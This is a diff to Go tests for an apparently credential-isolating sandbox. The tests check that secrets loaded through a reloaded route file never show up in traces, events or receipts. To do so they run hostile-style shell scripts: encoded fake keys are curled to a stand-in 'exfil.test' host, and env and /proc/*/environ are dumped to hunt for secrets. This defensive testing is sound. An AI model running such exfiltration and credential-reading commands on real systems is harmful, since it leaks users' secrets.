@@ -3,6 +3,8 @@ package hostile
 import (
 	"crypto/tls"
 	"crypto/x509"
+	"encoding/base64"
+	"encoding/hex"
 	"fmt"
 	"io"
 	"io/fs"
@@ -10,6 +12,7 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -186,6 +189,96 @@ func TestS3NothingKept(t *testing.T) {
 	}
 }
 
+// TestS3ReloadKept: what comes with a route file that is read again stays out of all
+// that is kept of the run from then on, plain and encoded, and what was watched for
+// before does so, too.
+func TestS3ReloadKept(t *testing.T) {
+	testenv.Need(t, "curl", "apt-get install curl")
+	const key, later = "kV7-the-real-key-Zq81xkLmP04", "lG2-the-later-key-Hn63vcXsQ"
+	k := newKeyed(t, key, "wX3-the-watched-one-Rt55yuBnM")
+	k.vars["HOSTILE_LATER"] = later
+	var told safeBuffer
+	k.reloadOnce("HOSTILE_LATER")
+	x := k.sh(func(o *carboy.RunOptions) {
+		o.Routes = k.routes
+		o.OnEvent = func(e carboy.Event) { fmt.Fprintf(&told, "%+v\n", e) }
+	}, k.untilReload()+`
+		for r in QsXcv36nH-yek-retal-eht-2Gl 40PmLkx18qZ-yek-laer-eht-7Vk; do w=$(echo $r | rev); b=$(printf %s "$w" | base64); h=$(printf %s "$w" | od -An -tx1 | tr -d ' \n')
+		/bin/echo $w $b $h > /dev/null; /bin/cat /tmp/$w /tmp/$h 2> /dev/null; curl -sS -o /dev/null "https://`+k.addr+`/$w"; curl -sS -o /dev/null "http://$w.exfil.test/"; /bin/echo plain-enough > /dev/null; done; exit 0`)
+	if got := strings.Join(k.asked(), " "); !strings.Contains(got, later) {
+		t.Fatalf("the file was not read again: %s %s", x.out, x.msg)
+	}
+	page, shown := "", false
+	if err := readTrace(k.client, x.rec.ID, func(f *trace.Fact) {
+		page += fmt.Sprintf("%+v\n", *f)
+		shown = shown || slices.Contains(f.Args, "plain-enough")
+	}); err != nil {
+		t.Fatal(err)
+	}
+	if !shown {
+		t.Error("the trace does not show an ordinary argument")
+	}
+	for _, v := range []string{later, key} {
+		for how, form := range map[string]string{"it": v, "its base64": base64.StdEncoding.EncodeToString([]byte(v))[:32], "its hex": hex.EncodeToString([]byte(v))} {
+			for what, text := range map[string]string{"what its user is told": told.String(), "the trace": page, "the receipt": fmt.Sprintf("%+v", x.rec)} {
+				if i := strings.Index(text, form); i >= 0 {
+					t.Errorf("%s holds %s: %q", what, how, text[max(0, i-100):i])
+				}
+			}
+		}
+	}
+}
+
+// TestS3ReloadOfWhatIsInside: a route file that comes to put on what the user has put
+// into the bottle is not taken: the last good one goes on.
+func TestS3ReloadOfWhatIsInside(t *testing.T) {
+	testenv.Need(t, "curl", "apt-get install curl")
+	const key, later = "kV7-the-real-key-Zq81xkLmP04", "lG2-the-later-key-Hn63vcXsQ"
+	k := newKeyed(t, key, "wX3-the-watched-one-Rt55yuBnM")
+	k.vars["HOSTILE_LATER"] = later
+	said := make(chan string, 1)
+	k.reloadOnce("HOSTILE_LATER")
+	x := k.sh(func(o *carboy.RunOptions) {
+		o.Routes, o.Env = k.routes, []string{"TICKET=for " + later}
+		o.OnEvent = func(e carboy.Event) {
+			if e.Kind == "routes" {
+				select {
+				case said <- e.Text:
+				default:
+				}
+			}
+		}
+	}, `curl -sS https://`+k.addr+`/; sleep 3; curl -sS https://`+k.addr+`/; exit 0`)
+	select {
+	case text := <-said:
+		if !strings.Contains(text, "stay as they were") || !strings.Contains(text, "TICKET") || strings.Contains(text, later) {
+			t.Error("the user is told", text)
+		}
+	default:
+		t.Error("the user is not told")
+	}
+	if got := strings.Join(k.asked(), " "); strings.Contains(got, later) || strings.Count(got, key) != 2 {
+		t.Errorf("the server got %s: %s %s", got, x.out, x.msg)
+	}
+}
+
+// reloadOnce writes the routes anew, with another credential, once the server was
+// asked.
+func (k *keyed) reloadOnce(variable string) {
+	go func() { // ends with the server's first request, or the test's patience
+		for end := time.Now().Add(patience); len(k.asked()) == 0 && time.Now().Before(end); {
+			time.Sleep(10 * time.Millisecond)
+		}
+		k.setRoutes(variable)
+	}()
+}
+
+// untilReload asks until answers have another placeholder; they are in the file all.
+func (k *keyed) untilReload() string {
+	return `n=0; while [ $n -lt 600 ]; do curl -sS https://` + k.addr + `/ | tee -a all | grep -q carboy-place || exit 7
+		n=$((n+1)); [ -e all ] && [ "$(sort -u all | wc -l)" -gt 1 ] && break; sleep 0.1; done;`
+}
+
 // TestS3Reload: a credential that comes with a route file which is read again
 // does not come inside either.
 func TestS3Reload(t *testing.T) {
@@ -193,14 +286,8 @@ func TestS3Reload(t *testing.T) {
 	const key, later = "kV7-the-real-key-Zq81xkLmP04", "lG2-the-later-key-Hn63vcXsQ"
 	k := newKeyed(t, key, "wX3-the-watched-one-Rt55yuBnM")
 	k.vars["HOSTILE_LATER"] = later
-	go func() { // ends with the server's first request, or the test
-		for end := time.Now().Add(patience); len(k.asked()) == 0 && time.Now().Before(end); {
-			time.Sleep(10 * time.Millisecond)
-		}
-		k.setRoutes("HOSTILE_LATER")
-	}()
-	x := k.sh(func(o *carboy.RunOptions) { o.Routes = k.routes }, `n=0; while [ $n -lt 600 ]; do curl -sS https://`+k.addr+`/ | tee -a all | grep -q carboy-place || exit 7
-		n=$((n+1)); [ -e all ] && [ "$(sort -u all | wc -l)" -gt 1 ] && break; sleep 0.1; done; cat all; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; exit 0`)
+	k.reloadOnce("HOSTILE_LATER")
+	x := k.sh(func(o *carboy.RunOptions) { o.Routes = k.routes }, k.untilReload()+` cat all; env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'; exit 0`)
 	got := strings.Join(k.asked(), " ")
 	if !strings.Contains(got, key) || !strings.Contains(got, later) {
 		t.Errorf("the server did not get both: %.300s; %.300s", got, x.msg)
